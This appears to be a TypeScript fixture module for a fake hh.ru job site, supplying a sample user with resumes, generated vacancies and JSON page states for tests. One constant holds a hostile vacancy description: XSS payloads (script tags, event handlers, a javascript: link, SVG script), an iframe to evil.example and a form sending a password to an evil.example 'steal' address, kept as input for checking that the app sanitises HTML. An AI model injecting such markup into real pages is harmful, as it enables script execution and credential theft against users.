/**
 * The fake hh.ru website's data and the page states built from it, in the shapes of
 * docs/hh/WEBSITE-NOTES.md (and, where the notes are silent, the shapes the app assumes;
 * see main/core/hh/website/parsers.ts).
 */

export interface FakeSiteUser {
  id: string;
  firstName: string;
  lastName: string;
  email: string;
  resumes: FakeSiteResume[];
}

export interface FakeSiteResume {
  id: string;
  hash: string;
  title: string;
  /** hh.ru's website statuses (2026: modified, not_finished, approved, new, published). */
  status: 'published' | 'not_published' | 'modified' | 'not_finished' | 'approved' | 'new';
  /** "О себе". */
  about: string;
  skills: string[];
  /** Newest first; `end` null = to this day. Dates as "YYYY-MM". */
  experience: { company: string; position: string; start: string; end: string | null; description: string }[];
  education: { name: string; organization: string; result: string; year: number }[];
}

export interface FakeSiteVacancy {
  id: string;
  name: string;
  employerId: string;
  employerName: string;
  salaryFrom: number | null;
  salaryTo: number | null;
  areaId: string;
  areaName: string;
  descriptionHtml: string;
  keySkills: string[];
  publishedAt: number;
  letterRequired: boolean;
  hasTest: boolean;
  archived: boolean;
  /** A "direct" vacancy: applying happens on the employer's site. */
  responseUrl: string | null;
  /** Open on hh.ru but no longer taking applications (2026's closedForApplicants). */
  closed?: boolean;
  /** How the salary is counted (2026's compensation.mode); MONTH when absent. */
  salaryMode?: 'MONTH' | 'HOUR' | 'SHIFT';
  /** After an application, the employer's bot asks this with these buttons. */
  botQuestion?: { text: string; buttons: string[] };
}

export interface FakeSiteMessage {
  id: string;
  chatId: string;
  text: string;
  createdAt: number;
  /** The user's id, or an employer participant id. */
  participantId: string;
  isBot: boolean;
  buttons: string[];
  applicantState: string | null;
}

export interface FakeTopic {
  id: string;
  chatId: string;
  userId: string;
  vacancyId: string;
  resumeId: string;
  resumeHash: string;
  letter: string;
  /** RESPONSE, INVITATION, INTERVIEW, DISCARD, CONSIDER... */
  state: string;
  viewed: boolean;
  badges: string[];
  hasNewMessages: boolean;
  createdAt: number;
  updatedAt: number;
}

export interface FakeChat {
  id: string;
  topicId: string;
  userId: string;
  employerParticipantId: string;
  writeAllowed: boolean;
  messages: FakeSiteMessage[];
  unread: number;
}

const hex = (seed: number, length: number) => {
  let out = '';
  let x = seed * 2654435761;
  while (out.length < length) {
    x = (x * 1103515245 + 12345) % 2 ** 31;
    out += x.toString(16);
  }
  return out.slice(0, length);
};

export const defaultUser = (): FakeSiteUser => ({
  id: '51234567',
  firstName: 'Анна',
  lastName: 'Иванова',
  email: 'anna@example.ru',
  resumes: [
    {
      id: '100200300',
      hash: hex(1, 38),
      title: 'Frontend-разработчик',
      status: 'published',
      about: 'Делаю быстрые и доступные интерфейсы.',
      skills: ['TypeScript', 'React'],
      experience: [
        {
          company: 'ООО «Пиксель Плюс»',
          position: 'Frontend-разработчик',
          start: '2021-03',
          end: null,
          description: 'Перевела витрину на React: конверсия выросла на 12%',
        },
        { company: 'Студия Контур', position: 'Верстальщик', start: '2018-09', end: '2021-02', description: 'Вёрстка лендингов' },
      ],
      education: [{ name: 'Казанский федеральный университет', organization: 'ИВМиИТ', result: 'Прикладная информатика', year: 2018 }],
    },
    {
      id: '100200301',
      hash: hex(2, 38),
      title: 'Python developer',
      status: 'published',
      about: 'Backend на Python.',
      skills: ['Python', 'Django'],
      experience: [
        { company: 'Лаборатория Луч', position: 'Python developer', start: '2019-01', end: null, description: 'Сервисы отчётов' },
      ],
      education: [],
    },
  ],
});

/**
 * A description an employer (or someone who took over their account) could write: every way HTML
 * can run code, restyle the page or send data elsewhere, around ordinary text and one real link.
 * The window must show the text and the link, and run or keep none of the rest.
 */
export const HOSTILE_DESCRIPTION_HTML = [
  '<p>Ищем <strong>разработчика</strong> в команду платформы.</p>',
  '<script>window.__pwned = "script"</script>',
  '<img src="x" onerror="window.__pwned = \'onerror\'">',
  '<p onclick="window.__pwned = \'onclick\'" style="position: fixed; inset: 0">Условия: ДМС и гибкий график.</p>',
  '<a href="javascript:window.__pwned = \'href\'">Ссылка-ловушка</a> ',
  '<a href="https://hh.ru/employer/7009" onmouseover="window.__pwned = \'hover\'">Страница работодателя</a>',
  '<iframe src="https://evil.example/frame"></iframe>',
  '<svg><script>window.__pwned = "svg"</script><circle r="5"></circle></svg>',
  '<form action="https://evil.example/steal"><input name="password" value="секрет"><button>Войти</button></form>',
  '<style>body { display: none }</style>',
  '<ul><li>Python</li><li>Django</li></ul>',
].join('');

const NAMES = ['Frontend-разработчик (React)', 'Python-разработчик', 'QA-инженер', 'Go-разработчик', 'Аналитик данных', 'DevOps-инженер'];
const COMPANIES = ['ООО «Ромашка»', 'Яндекс', 'Тинькофф', 'Лаборатория Касперского', 'HeadHunter'];
export const VACANCY_ID_BASE = 120_000_000;

/** Deterministic vacancies, newest first; some with a test, a required letter, an external form, a bot question. */
export function generateVacancies(count: number, now: number): FakeSiteVacancy[] {
  return Array.from({ length: count }, (_, i) => ({
    id: String(VACANCY_ID_BASE + i + 1),
    name: NAMES[i % NAMES.length]!,
    employerId: String(9000 + (i % COMPANIES.length)),
    employerName: COMPANIES[i % COMPANIES.length]!,
    salaryFrom: i % 3 === 0 ? null : 150_000 + i * 1000,
    salaryTo: i % 3 === 0 ? null : 250_000 + i * 1000,
    areaId: i % 2 ? '2' : '1',
    areaName: i % 2 ? 'Санкт-Петербург' : 'Москва',
    // Entities inside the description: the raw (unescaped) page must keep them as text.
    descriptionHtml: `<p>Мы ищем &quot;сильного&quot; коллегу &amp; наставника.</p><ul><li>Опыт от ${1 + (i % 5)} лет</li><li>TypeScript &lt;3</li></ul>`,
    keySkills: ['TypeScript', i % 2 ? 'Python' : 'React', 'Git'],
    publishedAt: now - i * 3_600_000,
    letterRequired: i % 5 === 4,
    hasTest: i % 7 === 6,
    archived: false,
    responseUrl: i % 11 === 10 ? `https://careers.example.com/jobs/${i}` : null,
    ...(i === 2 && { botQuestion: { text: 'Готовы работать из офиса два дня в неделю?', buttons: ['Да', 'Нет'] } }),
  }));
}

const iso = (ms: number) => new Date(ms).toISOString().replace(/\.\d{3}Z$/, '+00:00');

const compensation = (v: FakeSiteVacancy) =>
  v.salaryFrom === null && v.salaryTo === null
    ? { noCompensation: true }
    : {
        from: v.salaryFrom,
        to: v.salaryTo,
        currencyCode: 'RUR',
        gross: false,
        mode: v.salaryMode ?? 'MONTH',
        frequency: 'TWICE_PER_MONTH',
        perModeFrom: v.salaryFrom,
        perModeTo: v.salaryTo,
      };

/** The user's resume on its own page: 2026's `applicantResume` (words wrapped as `[{string}]`), or the older plain `resume`. */
export function resumeState(r: FakeSiteResume, userId: string, shape: FakeSiteShape) {
  const w = (value: string | number) => [{ string: value }];
  const months = r.experience.reduce((sum, job) => {
    const end = job.end ? new Date(`${job.end}-01`) : new Date('2026-12-01');
    return sum + Math.max(0, Math.round((end.getTime() - new Date(`${job.start}-01`).getTime()) / (30.44 * 86_400_000)));
  }, 0);
  if (shape === 'older') {
    return {
      resume: {
        id: r.id,
        hash: r.hash,
        title: r.title,
        keySkills: r.skills,
        skills: r.about,
        totalExperience: { months },
        experience: r.experience.map((j) => ({ ...j })),
      },
    };
  }
  return {
    resume: {},
    applicantResume: {
      _attributes: { id: r.id, hash: r.hash, user: userId, status: r.status, canTouch: true, nextTouchAt: 0 },
      title: w(r.title),
      skills: w(r.about),
      totalExperience: w(months),
      keySkills: r.skills.map((s) => ({ string: s })),
      experience: r.experience.map((j, i) => ({
        id: 900 + i,
        companyName: j.company,
        position: j.position,
        startDate: `${j.start}-01`,
        endDate: j.end ? `${j.end}-01` : null,
        description: j.description,
      })),
      primaryEducation: r.education.map((e, i) => ({ id: 30 + i, ...e })),
      area: w(1),
    },
  };
}

/** Which of hh.ru's layouts the fake serves: the 2026 one (default) or the older one some accounts still get. */
export type FakeSiteShape = '2026' | 'older';

export function searchCard(v: FakeSiteVacancy, site: string, labels: string[]) {
  return {
    vacancyId: Number(v.id),
    name: v.name,
    company: { id: Number(v.employerId), name: v.employerName, visibleName: v.employerName, '@trusted': true },
    compensation: compensation(v),
    area: { '@id': Number(v.areaId), name: v.areaName },
    publicationTime: { $: iso(v.publishedAt), '@timestamp': Math.floor(v.publishedAt / 1000) },
    creationTime: iso(v.publishedAt),
    links: { desktop: `${site}/vacancy/${v.id}`, mobile: `${site}/vacancy/${v.id}` },
    '@responseLetterRequired': v.letterRequired,
    '@workSchedule': 'fullDay',
    userTestPresent: v.hasTest,
    archived: v.archived,
    closedForApplicants: Boolean(v.closed),
    response_url: v.responseUrl ?? '',
    userLabels: labels,
    totalResponsesCount: 17,
    snippet: { requirement: 'Опыт работы', responsibility: 'Разработка' },
  };
}

/** The vacancy page's state: 2026 nests the card as vacancyView.vacancyFull.vacancy and marks a response beside it. */
export function vacancyPage(v: FakeSiteVacancy, shape: FakeSiteShape, responses: number) {
  if (shape === 'older') return { vacancyView: { ...vacancyView(v), userLabels: responses ? ['response'] : [] } };
  const { publicationDate, keySkills, ...card } = vacancyView(v);
  return {
    vacancyView: {
      vacancyFull: {
        vacancy: {
          ...card,
          publicationTimeIso: publicationDate,
          keySkills: keySkills.keySkill,
          closedForApplicants: Boolean(v.closed),
          area: { id: Number(v.areaId), name: v.areaName },
        },
        extraVacancyFields: { userLabels: [], totalResponsesCount: 17 },
      },
    },
    applicantVacancyResponseStatuses: {
      [v.id]: {
        alreadyApplied: false,
        test: { hasTests: v.hasTest },
        negotiations: { total: responses, topicList: [] },
        shortVacancy: { vacancyId: Number(v.id), name: v.name },
      },
    },
  };
}

export function vacancyView(v: FakeSiteVacancy) {
  return {
    vacancyId: Number(v.id),
    name: v.name,
    description: v.descriptionHtml,
    company: { id: Number(v.employerId), name: v.employerName, visibleName: v.employerName },
    compensation: compensation(v),
    area: { '@id': Number(v.areaId), name: v.areaName },
    keySkills: { keySkill: v.keySkills },
    status: { active: !v.archived && !v.closed, archived: v.archived, disabled: false },
    publicationDate: iso(v.publishedAt),
    '@responseLetterRequired': v.letterRequired,
    userTestPresent: v.hasTest,
    response_url: v.responseUrl ?? '',
    workExperience: 'between1And3',
  };
}

/** `paging` is null on a single page; else the page numbers around this one and the last page (0-based). */
export function paging(page: number, pages: number) {
  if (pages <= 1) return null;
  const around = Array.from({ length: pages }, (_, n) => n).filter((n) => Math.abs(n - page) <= 2);
  return {
    pages: around.map((n) => ({ page: n, selected: n === page, text: String(n + 1) })),
    next: page + 1 < pages ? { page: page + 1 } : null,
    lastPage: { page: pages - 1 },
  };
}

export function messageJson(m: FakeSiteMessage, displayName: string, topicId: string) {
  return {
    id: Number(m.id),
    chatId: Number(m.chatId),
    creationTime: iso(m.createdAt),
    text: m.text,
    type: 'SIMPLE',
    canEdit: false,
    canDelete: false,
    hidden: false,
    participantId: m.participantId,
    participantDisplay: { name: displayName, isBot: m.isBot },
    workflowTransition: m.applicantState
      ? { id: Number(m.id) + 1, topicId: Number(topicId), applicantState: m.applicantState, declinedByApplicant: false }
      : null,
    ...(m.buttons.length && { actions: { text_buttons: m.buttons.map((text) => ({ size: 's', text })) } }),
  };
}

export function topicJson(t: FakeTopic) {
  return {
    id: Number(t.id),
    applicantUserId: Number(t.userId),
    chatId: Number(t.chatId),
    vacancyId: Number(t.vacancyId),
    resumeId: Number(t.resumeId),
    lastState: t.state,
    initialState: 'RESPONSE',
    hasNewMessages: t.hasNewMessages,
    viewedByOpponent: t.viewed,
    archived: false,
    conversationMessagesCount: 0,
    creationTime: iso(t.createdAt),
    lastModified: iso(t.updatedAt),
    badges: t.badges.map((text) => ({ text })),
    responseReminderState: { allowed: false },
  };
}
